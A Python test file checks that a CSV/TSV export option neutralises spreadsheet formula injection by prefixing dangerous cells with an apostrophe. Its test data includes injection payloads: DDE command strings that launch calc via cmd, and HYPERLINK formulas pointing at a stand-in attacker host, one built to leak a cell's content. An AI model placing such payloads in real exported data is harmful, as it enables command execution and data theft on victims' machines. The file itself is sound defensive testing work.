"""`--spreadsheet-safe`: no cell is a formula, whatever name a caller chose, and all other cells are unchanged.

OWASP, "CSV Injection", lists the signs: = + - @, their wide forms, and leading tabs and line ends. It also warns of
other separators and quotes, with which a program may begin a cell in the middle of ours.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, strategies as st
from msgspec.structs import replace

from cdrctl.writers.values import text_of
from tests.support.products import for_each
from tests.support.runner import run

from .examples import LOOK, nasty_text, schema, values, whole, written

SAFE = replace(LOOK, for_spreadsheets=True)
NUMBER = r"-[0-9]+(\.[0-9]+)?"
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
CONTROLS = "".join(chr(number) for number in (*range(32), *range(127, 160)))
MARKS = "\u00ad\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\ufeff"
UNSEEN = CONTROLS + MARKS + "".join(map(chr, range(0x2060, 0x206A)))
SEPARATORS = {"csv": ",", "tsv": "\t"}

each_form = for_each("form", SEPARATORS)

HARMLESS = [
    *("", "Zoë 田中", "0049301234567", "97231234567", "a=b", "a+b", "1-2", "me@example.com", "'=1+1", "#x", "{}"),
    *("-5", "-5.25", "-0.0100", "1.5", "2026-11-19T08:00:00.123Z", "sip:1@pbx;transport=tcp", "[1,-5]", "[-5, -6]"),
    *("x -y", "null", "!A1", "%0A", "1e5"),
]  # fmt: skip
FORMULAS = [
    *(f"{sign}{rest}" for sign in SIGNS for rest in ("", "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0")),
    *(f"{before}=1+1" for before in (" ", "   ", "\u00a0", "\u3000", "\u2028", "\x0b", '"', '" "')),
    *("\t", "\r", "\n", "\tx", "\rx", "\nx", "--5", "-5-5", "-2+3+cmd|' /C calc'!D2", "-5 ", "-.5", "-5\n"),
    *("+49301234567", "+1.5", "+1-2", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1;"ok")'),
]  # fmt: skip


def cells(form: str, *row: Any, look: Any = SAFE) -> list[str]:
    """Return the cells of one record, read back from the format."""
    text = written(form, schema(*[f"c{number}" for number, _ in enumerate(row)]), [[list(row)]], look).decode()
    return rows(form, text)[1]


def rows(form: str, text: str) -> list[list[str]]:
    if form == "csv":
        return list(csv.reader(io.StringIO(text, newline=""), strict=True))
    meaning = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}
    return [
        [re.sub(r"\\(.)", lambda found: meaning[found[1]], cell) for cell in line.split("\t")]
        for line in text.removesuffix("\n").split("\n")
    ]


def dangerous(cell: str) -> bool:
    """Return whether a spreadsheet may take a cell for a formula, according to OWASP.

    The program that reads the cell may drop quotes and invisible characters.
    """
    seen = cell.lstrip(UNSEEN + '"').lstrip()
    while seen != (shorter := seen.lstrip(UNSEEN + '"').lstrip()):
        seen = shorter
    return not re.fullmatch(NUMBER, cell) and (cell[:1] in {"\t", "\r", "\n"} or seen[:1] in {*SIGNS})


@each_form
@for_each("value", FORMULAS)
def test_a_formula_is_text_behind_an_apostrophe(form: str, value: str) -> None:
    assert cells(form, "x", value) == ["x", f"'{value}"]
    assert cells(form, value, "x") == [f"'{value}", "x"]


@each_form
def test_a_formula_after_an_invisible_character_is_text_too(form: str) -> None:
    for one in {*UNSEEN} - {*"\t\r\n"}:
        assert cells(form, "x", f"{one}=1") == ["x", f"'{one}=1"], ascii(one)


@each_form
@for_each("value", HARMLESS)
def test_other_text_is_unchanged(form: str, value: str) -> None:
    assert cells(form, "x", value) == ["x", value]


@each_form
@for_each("value", [-5, -1.25, 0, 7, True, None, ["a", -5], {"a": "b"}])
def test_numbers_and_lists_are_unchanged(form: str, value: Any) -> None:
    assert cells(form, "x", value) == ["x", text_of(value)]


def test_a_telephone_number_keeps_its_plus() -> None:
    """A spreadsheet would turn it into a number, without the plus and with the last digits rounded."""
    assert cells("csv", "x", "+97231234567") == ["x", "'+97231234567"]
    assert cells("csv", "x", "97231234567") == ["x", "97231234567"]


@for_each(
    "form, value, cell",
    [
        ("csv", "x;=1+1", "x;'=1+1"),
        ("csv", "x; =1+1", "x;' =1+1"),
        ("csv", ';"=1+1"', ';\'"=1+1"'),
        ("csv", "x\n=1+1", "x\n'=1+1"),
        ("csv", "x\t@A1", "x\t'@A1"),
        ("csv", "x\r\n+1", "x\r\n'+1"),
        ("csv", "\r\n=1", "'\r\n'=1"),
        ("csv", "x;-5;y", "x;-5;y"),
        ("csv", "x;-5+1", "x;'-5+1"),
        ("csv", "x,=1+1", "x,=1+1"),  # in quotes, where no program splits cells
        ("tsv", "x;=1+1", "x;'=1+1"),
        ("tsv", "x,=1+1", "x,'=1+1"),
        ("tsv", "x,-5", "x,-5"),
        ("tsv", "x\t=1+1", "x\t=1+1"),  # the tab is written as a backslash and a t
        ("tsv", '"x', "'\"x"),  # the quote would enclose the cells after it
    ],
)
def test_a_formula_after_another_separator_is_text_too(form: str, value: str, cell: str) -> None:
    assert cells(form, "x", value) == ["x", cell]


@each_form
@for_each("value", FORMULAS)
def test_spreadsheet_safe_is_off_by_default(form: str, value: str) -> None:
    assert cells(form, "x", value, look=LOOK) == ["x", value]


@each_form
@for_each("pages", [[], [[]], [[["1", "2"]]]], ids=["no pages", "no records", "a record"])
def test_column_names_are_protected_too(form: str, pages: list[list[list[Any]]]) -> None:
    text = written(form, schema("=cmd", "plain"), pages, SAFE).decode()
    assert rows(form, text)[0] == ["'=cmd", "plain"]


@each_form
def test_all_pages_are_protected(form: str) -> None:
    text = written(form, schema("a", "b"), [[["=1", "x"]], [], [["x", "=2"], ["@3", "y"]]], SAFE).decode()
    assert rows(form, text)[1:] == [["'=1", "x"], ["x", "'=2"], ["'@3", "y"]]


signs = st.text(st.sampled_from(SIGNS + UNSEEN + " \t\r\n\"';,-5.]}x"), max_size=12)
anything = st.one_of(signs, nasty_text, values)
pages_of_three = st.lists(st.lists(st.lists(anything, min_size=3, max_size=3), max_size=4), max_size=3)


@pytest.mark.parametrize("form", SEPARATORS)
@given(pages=pages_of_three)
def test_every_formula_and_nothing_else_gets_an_apostrophe(form: str, pages: list[list[list[Any]]]) -> None:
    text = written(form, schema("a", "b", "c"), pages, SAFE).decode()
    came = [[whole(text_of(value)) for value in row] for page in pages for row in page]
    others = {"csv": ";\t\r\n", "tsv": ",;"}[form]
    for before, after in zip(came, rows(form, text)[1:], strict=True):
        for cell, made in zip(before, after, strict=True):
            assert not dangerous(made)
            parts = re.split(f"[{others}]", cell)
            quoted = form == "tsv" and cell.startswith('"')
            if not dangerous(cell) and not quoted and not any(map(dangerous, parts[1:])):
                assert made == cell
            assert len(made) - len(cell) <= len(parts), "nothing but apostrophes is added"


@given(pages=pages_of_three)
def test_no_program_with_another_separator_finds_a_formula(pages: list[list[list[Any]]]) -> None:
    text = written("csv", schema("a", "b", "c"), pages, SAFE).decode()
    for separator in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not [cell for cell in line if starts_a_formula(cell)]


@given(pages=pages_of_three)
def test_a_program_that_looks_for_quotes_in_tsv_finds_no_formula(pages: list[list[list[Any]]]) -> None:
    text = written("tsv", schema("a", "b", "c"), pages, SAFE).decode()
    width = {len(line) for line in csv.reader(io.StringIO(text, newline=""), delimiter="\t") if line}
    assert width == {3}
    for line in text.split("\n"):
        assert not [part for part in re.split("[,;\t]", line) if starts_a_formula(part)]


def starts_a_formula(cell: str) -> bool:
    """Return whether a cell, split at another separator, begins with a sign and is not a negative number."""
    return dangerous(cell) and not re.match(rf" *{NUMBER}(?=[\s,;\]}}]|\Z)", cell) and cell[:1] not in "\t\r\n"


# On the command line

EXPORT = ("voicenter", "notifications", "-", "--schema", "common")
EVIL = '=HYPERLINK("http://evil.example","click")'


def notification() -> str:
    path = next((Path(__file__).parents[1] / "data" / "voicenter").glob("*notification*.json"))
    document = json.loads(path.read_text(encoding="utf-8"))
    one = document[0] if isinstance(document, list) else document
    return json.dumps({**one, "caller": EVIL, "=new": "+1"})


@each_form
def test_the_option_reaches_the_file(form: str) -> None:
    plain = run(*EXPORT, "-f", form, stdin=notification())
    safe = run(*EXPORT, "-f", form, "--spreadsheet-safe", stdin=notification())
    assert (plain.code, safe.code) == (0, 0), plain.err + safe.err
    assert EVIL in rows(form, plain.out)[1]
    assert f"'{EVIL}" in rows(form, safe.out)[1]
    assert not any(dangerous(cell) for row in rows(form, safe.out) for cell in row)


@for_each("form", ["jsonl", "json", "table"])
def test_spreadsheet_safe_is_refused_for_other_formats(form: str) -> None:
    ran = run(*EXPORT, "-f", form, "--spreadsheet-safe", stdin=notification())
    assert ran.code == 2
    assert "--spreadsheet-safe is for csv and tsv" in ran.err
    assert ran.out == ""


@pytest.mark.slow
def test_spreadsheet_safe_works_for_several_profiles() -> None:
    asked = ("export", "-p", "sandbox", "--since", "2h", "--spreadsheet-safe")
    assert run(*asked, "-f", "jsonl").code == 2
    ran = run(*asked, "-f", "csv", "--allow-partial")
    assert ran.code == 0, ran.err
    numbers = [row["from_number"] for row in csv.DictReader(io.StringIO(ran.out, newline=""))]
    assert any(number.startswith("'+") for number in numbers)
    assert not any(map(dangerous, numbers))
